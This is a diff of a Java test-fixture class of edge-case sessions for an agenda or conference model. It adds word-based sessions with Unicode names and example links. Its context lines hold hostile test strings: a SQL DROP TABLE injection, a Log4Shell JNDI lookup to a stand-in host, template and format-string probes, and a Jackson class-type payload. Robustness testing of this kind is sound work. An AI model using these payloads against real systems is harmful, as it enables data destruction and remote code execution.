@@ -15,6 +15,7 @@ import java.util.Map;
 import java.util.Optional;
 import java.util.function.IntFunction;
 import java.util.stream.IntStream;
+import java.util.stream.Stream;
 import org.ospoplusplus.model.AgendaItem;
 import org.ospoplusplus.model.Aliases;
 import org.ospoplusplus.model.ConductPolicy;
@@ -74,6 +75,12 @@ public final class EdgeCases {
         all.put("longest id", Session.builder("x".repeat(200), AFTERNOON).build());
         all.put("odd id", Session.builder("A.b_c~d@e+f=g:h-i", AFTERNOON).build());
         all.put("links", links());
+        words().forEach(word -> all.put(
+                "word " + word,
+                Session.builder("edge", AFTERNOON)
+                        .guest(Guest.person("Zoë Ōta").withRole(new Guest.Role(word)))
+                        .link(Link.of(new Link.Kind(word), uri("https://words.example/" + word), "Wort – 語"))
+                        .build()));
         all.put("many of everything", many());
         all.put("a list of one", many(1));
         return Collections.unmodifiableMap(all);
@@ -106,6 +113,17 @@ public final class EdgeCases {
                 "é'; DROP TABLE session; --",
                 "${jndi:ldap://x.example/é} #{1+1} {{1+1}} %s%n",
                 "{\"@class\": \"java.lang.Thread\", \"é\": 1}");
+    }
+
+    /** {@return words of open lists: all known ones, and others that are similar to names of formats} */
+    private static List<String> words() {
+        return Stream.of(
+                        Link.Kind.KNOWN.stream().map(Link.Kind::word),
+                        Guest.Role.KNOWN.stream().map(Guest.Role::word),
+                        Stream.of("podcast", "registration", "policy", "partner", "Podcast", "x_y.z"))
+                .flatMap(each -> each)
+                .distinct()
+                .toList();
     }
 
     /** {@return a session in which all texts are the same} */
